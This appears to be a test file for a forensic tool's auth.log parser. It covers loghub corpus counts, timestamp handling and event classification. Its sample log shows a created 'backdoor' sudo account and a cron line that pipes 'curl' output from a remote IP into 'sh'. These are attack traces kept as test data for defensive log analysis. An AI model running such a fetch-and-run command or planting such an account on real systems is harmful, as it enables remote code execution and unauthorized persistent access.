// The authlog loader against loghub's ground truth (structured parses, template and grep counts), the year/offset options and typical auth.log lines.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { corpusPath, hasCorpora } from '../../../test/corpora.js';
import { csvFields } from '../text.js';
import { ingestArtifact, type IngestResult } from '../ingest.js';
import { authMemo, classifyAuthMessage, parseSyslogLine } from './authlog.js';

const corpus = hasCorpora() ? describe : describe.skip;
const dirs: string[] = [];
afterEach(() => {
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

function tmp(): string {
  const d = mkdtempSync(path.join(tmpdir(), 'forensic-authlog-'));
  dirs.push(d);
  return d;
}

function loadText(text: string, options: { year?: number; utcOffsetHours?: number; host?: string } = {}): IngestResult {
  const dir = tmp();
  writeFileSync(path.join(dir, 'auth.log'), text);
  return ingestArtifact('auth.log', { evidenceRoot: dir, kind: 'authlog', ...options });
}

interface LogTruth {
  lines: number;
  components: Record<string, number>;
  top5: [string, number, string][];
  grep_counts?: Record<string, number>;
}

function truth(file: string): LogTruth {
  return (JSON.parse(readFileSync(corpusPath('logs', 'GROUND_TRUTH.json'), 'utf8')) as Record<string, LogTruth>)[file] as LogTruth;
}

function structured(file: string): Record<string, string>[] {
  const lines = readFileSync(corpusPath('logs', file), 'utf8').split('\n').filter((l) => l !== '');
  const header = csvFields(lines[0] as string);
  return lines.slice(1).map((l) => {
    const f = csvFields(l);
    return Object.fromEntries(header.map((h, i) => [h, f[i] ?? '']));
  });
}

function count<T>(items: readonly T[], key: (t: T) => string): Record<string, number> {
  const out: Record<string, number> = {};
  for (const i of items) out[key(i)] = (out[key(i)] ?? 0) + 1;
  return out;
}

corpus('authlog on loghub', () => {
  it('Linux_2k.log: every line an event, and program, pid and message as loghub parsed them', () => {
    const t = truth('loghub/Linux/Linux_2k.log');
    const r = ingestArtifact(corpusPath('logs', 'loghub', 'Linux', 'Linux_2k.log'), { evidenceRoot: corpusPath(), year: 2005 });
    expect(r.artifact.kind).toBe('authlog');
    expect(r.events).toHaveLength(t.lines);
    const programs = count(r.events, (e) => String(e.attributes['program']));
    for (const [component, n] of Object.entries(t.components)) expect(programs[component]).toBe(n);
    const rows = structured('loghub/Linux/Linux_2k.log_structured.csv');
    expect(rows).toHaveLength(t.lines);
    r.events.forEach((e, i) => {
      const row = rows[i] as Record<string, string>;
      expect(e.attributes['program']).toBe(row['Component']);
      expect(e.attributes['pid'] ?? '').toBe(row['PID'] === '' ? '' : Number(row['PID']));
      expect(e.attributes['message']).toBe(row['Content']);
      expect(e.host).toBe(row['Level']);
      expect(e.raw.recordNumber).toBe(Number(row['LineId']));
    });
    const templates = Object.fromEntries(t.top5.map(([id, n]) => [id, n]));
    expect(r.events.filter((e) => e.action === 'network.connection.inbound')).toHaveLength(templates['E29'] as number);
    expect(r.events.filter((e) => e.action === 'auth.failure' && e.attributes['user'] === 'root')).toHaveLength(templates['E18'] as number);
    expect(r.events.filter((e) => e.action.endsWith('session.close'))).toHaveLength(templates['E101'] as number);
    expect(r.events.filter((e) => e.action.endsWith('session.open') && e.actor?.name.startsWith('uid:') === true)).toHaveLength(templates['E102'] as number);
    // E16 (no user) plus its one-off variant E15 on the console.
    expect(r.events.filter((e) => e.action === 'auth.failure' && e.attributes['user'] === undefined)).toHaveLength((templates['E16'] as number) + 1);
    expect(r.artifact.firstTime).toBe('2005-06-14T15:16:01Z');
    expect(r.artifact.warningCounts).toEqual({ zone_assumed: 1 });
  });

  it('OpenSSH_2k.log: the grep counts, and the structured parse line by line', () => {
    const t = truth('loghub/OpenSSH/OpenSSH_2k.log');
    const r = ingestArtifact(corpusPath('logs', 'loghub', 'OpenSSH', 'OpenSSH_2k.log'), { evidenceRoot: corpusPath(), year: 2005, utcOffsetHours: 8 });
    expect(r.events).toHaveLength(t.lines);
    const g = t.grep_counts as Record<string, number>;
    expect(r.events.filter((e) => e.action === 'auth.login.failure' && e.attributes['method'] === 'password')).toHaveLength(g['Failed password'] as number);
    expect(r.events.filter((e) => e.action === 'auth.invalid_user')).toHaveLength(g['Invalid user'] as number);
    const accepted = r.events.filter((e) => e.action === 'auth.login.success');
    expect(accepted).toHaveLength(g['Accepted password'] as number);
    expect(accepted[0]).toMatchObject({ actor: { type: 'user', name: 'fztu' }, attributes: { sourceIp: '119.137.62.142', sourcePort: 49116, method: 'password' } });
    // loghub's "component" for this file is the host column.
    expect(count(r.events, (e) => e.host ?? '')).toEqual(t.components);
    const rows = structured('loghub/OpenSSH/OpenSSH_2k.log_structured.csv');
    r.events.forEach((e, i) => {
      const row = rows[i] as Record<string, string>;
      expect(e.attributes['pid']).toBe(Number(row['Pid']));
      expect(e.attributes['message']).toBe(row['Content']);
    });
    expect(r.events[0]?.time).toEqual({ time: '2005-12-09T22:55:46Z', precision: 'second', source: 'syslog header; year 2005 from the year option; UTC+8 from the utc_offset_hours option' });
    expect(r.artifact.warningCount).toBe(0);
    const repeated = r.events.filter((e) => e.attributes['repeated'] !== undefined);
    expect(repeated.map((e) => e.attributes['repeated'])).toEqual([5, 5]);
  });

  it('a copy cut in the middle of a line keeps every whole line', () => {
    const dir = tmp();
    const source = readFileSync(corpusPath('logs', 'loghub', 'OpenSSH', 'OpenSSH_2k.log'));
    const cut = source.indexOf('\n', 1000) + 20;
    writeFileSync(path.join(dir, 'cut.log'), source.subarray(0, cut));
    const r = ingestArtifact('cut.log', { evidenceRoot: dir, year: 2005 });
    const whole = source.subarray(0, cut).toString().split('\n').length - 1;
    expect(r.events.length).toBeGreaterThanOrEqual(whole);
    expect(r.events.length).toBeLessThanOrEqual(whole + 1);
  });
});

describe('authlog lines', () => {
  const log = [
    'Mar  3 10:00:01 web01 sshd[811]: Accepted publickey for alice from 192.0.2.10 port 51022 ssh2: ED25519 SHA256:abc',
    'Mar  3 10:00:05 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt install nmap',
    'Mar  3 10:00:06 web01 sudo:      bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh',
    'Mar  3 10:00:07 web01 sudo:  mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash',
    'Mar  3 10:00:08 web01 su[900]: (to root) alice on pts/0',
    'Mar  3 10:00:08 web01 su[900]: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)',
    'Mar  3 10:00:09 web01 su: FAILED su for root by bob',
    'Mar  3 10:01:00 web01 useradd[1001]: new user: name=backdoor, UID=1002, GID=1002, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0',
    'Mar  3 10:01:00 web01 useradd[1001]: new group: name=backdoor, GID=1002',
    "Mar  3 10:01:01 web01 usermod[1003]: add 'backdoor' to group 'sudo'",
    "Mar  3 10:01:02 web01 usermod[1003]: change user 'backdoor' shell",
    'Mar  3 10:01:03 web01 passwd[1004]: pam_unix(passwd:chauthtok): password changed for backdoor',
    'Mar  3 10:02:01 web01 CRON[1100]: (root) CMD (curl -s http://198.51.100.9/x | sh)',
    'Mar  3 10:02:02 web01 systemd-logind[400]: New session 42 of user alice.',
    'Mar  3 10:02:03 web01 systemd-logind[400]: Removed session 42.',
    'Mar  3 10:02:04 web01 sshd[811]: Disconnected from user alice 192.0.2.10 port 51022',
    'Mar  3 10:02:05 web01 sshd[812]: Failed password for invalid user admin from 203.0.113.5 port 40000 ssh2',
    '2024-03-03T10:03:00.123456+01:00 web01 sshd[813]: Invalid user oracle from 203.0.113.5 port 40010',
    'Mar  3 10:04:00 web01 kernel: [ 1.0] random boot line',
  ].join('\n');

  it('give each supported line its action, actor and object', () => {
    const r = loadText(`${log}\n`, { year: 2024, utcOffsetHours: 0 });
    expect(r.events.map((e) => [e.action, e.actor?.name ?? null, e.object?.name ?? null])).toEqual([
      ['auth.login.success', 'alice', 'web01'],
      ['sudo.command', 'alice', '/usr/bin/apt install nmap'],
      ['sudo.failure', 'bob', '/bin/sh'],
      ['sudo.denied', 'mallory', '/bin/bash'],
      ['syslog.message', 'su', 'web01'],
      ['su.session.open', 'alice', 'root'],
      ['su.failure', 'bob', 'root'],
      ['account.create', null, 'backdoor'],
      ['group.create', null, 'backdoor'],
      ['account.group.add', null, 'backdoor'],
      ['account.modify', null, 'backdoor'],
      ['account.password_change', null, 'backdoor'],
      ['cron.command', 'root', 'curl -s http://198.51.100.9/x | sh'],
      ['logind.session.new', 'alice', 'web01'],
      ['logind.session.removed', null, 'web01'],
      ['ssh.disconnect', 'alice', 'web01'],
      ['auth.login.failure', 'admin', 'web01'],
      ['auth.invalid_user', 'oracle', 'web01'],
      ['syslog.message', 'kernel', 'web01'],
    ]);
    expect(r.events[1]?.attributes).toMatchObject({ runAs: 'root', cwd: '/home/alice', commandLine: '/usr/bin/apt install nmap' });
    expect(r.events[9]?.attributes['group']).toBe('sudo');
    expect(r.events[16]?.attributes).toMatchObject({ invalidUser: true, method: 'password', sourceIp: '203.0.113.5' });
    expect(r.events[17]?.time).toEqual({ time: '2024-03-03T09:03:00.123456Z', precision: 'microsecond', source: 'syslog RFC 3339 header' });
  });

  it('apply the year and offset options, roll the year over at New Year, and say what was assumed', () => {
    const text = 'Dec 31 23:59:59 h sshd[1]: Connection closed by 192.0.2.1 port 1 [preauth]\nJan  1 00:00:01 h sshd[1]: Connection closed by 192.0.2.1 port 2 [preauth]\n';
    const given = loadText(text, { year: 2023, utcOffsetHours: -5 });
    expect(given.events.map((e) => e.time.time)).toEqual(['2024-01-01T04:59:59Z', '2024-01-01T05:00:01Z']);
    expect(given.artifact.warningCount).toBe(0);
    // Each line's time source names the year it was read in.
    expect(given.events.map((e) => /year (\d+)/.exec(e.time.source)?.[1])).toEqual(['2023', '2024']);
    const assumed = loadText(text);
    expect(assumed.artifact.warningCounts).toEqual({ year_assumed: 1, zone_assumed: 1 });
    expect(assumed.events[0]?.time.source).toMatch(/assumed from the file time; UTC\+0 assumed/);
    expect(parseSyslogLine('Feb 30 10:00:00 h x: y')).not.toBeNull();
    expect(loadText('Feb 30 10:00:00 h x: y\n', { year: 2023, utcOffsetHours: 0 }).events[0]?.time).toMatchObject({ time: null, precision: 'none' });
  });

  it('turn damaged lines into warnings, never a crash', () => {
    const r = loadText('Mar  3 10:00:01 web01 sshd[1]: ok\n\u0000\u0001garbage\xff line\nnot syslog at all\nMar  3 10:0', { year: 2024, utcOffsetHours: 0 });
    expect(r.events).toHaveLength(1);
    expect(r.artifact.warningCounts['unparsed_line']).toBe(3);
    expect(r.artifact.warnings.at(-1)).toMatchObject({ code: 'unparsed_line', line: 4, message: 'the last line is cut short or not a syslog line' });
  });

  it('classifies messages independently of the header', () => {
    expect(classifyAuthMessage('sshd', 'Accepted password for root from ::1 port 22 ssh2', 'h')?.action).toBe('auth.login.success');
    expect(classifyAuthMessage('ftpd', 'connection from 10.0.0.1 () at Sat Jun 14 10:00:00 2005', 'h')).toMatchObject({ action: 'network.connection.inbound', actor: { name: '10.0.0.1' } });
    expect(classifyAuthMessage('kernel', 'hello', 'h')).toBeNull();
  });

  it('shares the host entity and the service names within the memo it is handed (one per file), and only there', () => {
    const accepted = 'Accepted password for root from ::1 port 22 ssh2';
    const a = authMemo();
    const b = authMemo();
    const first = classifyAuthMessage('sshd', accepted, 'web01', a);
    const again = classifyAuthMessage('sshd(pam_unix)', accepted, 'web01', a);
    expect(again?.object).toBe(first?.object);
    expect(a.services.get('sshd(pam_unix)')).toBe('sshd');
    expect(a.lastHostEntity).toEqual({ type: 'host', name: 'web01' });
    // Another file's memo, or none, makes its own entity: the same answer, never the other's object.
    const other = classifyAuthMessage('sshd', accepted, 'web01', b);
    const none = classifyAuthMessage('sshd', accepted, 'web01');
    expect(other).toEqual(first);
    expect(none).toEqual(first);
    expect(other?.object).not.toBe(first?.object);
    expect(none?.object).not.toBe(first?.object);
    expect(b.services.has('sshd(pam_unix)')).toBe(false);
  });

  it('detects an auth log by content whatever its name', () => {
    const dir = tmp();
    writeFileSync(path.join(dir, 'evidence.json'), `${log}\n`);
    expect(ingestArtifact('evidence.json', { evidenceRoot: dir, year: 2024 }).artifact).toMatchObject({ kind: 'authlog', detectedBy: 'content' });
  });
});
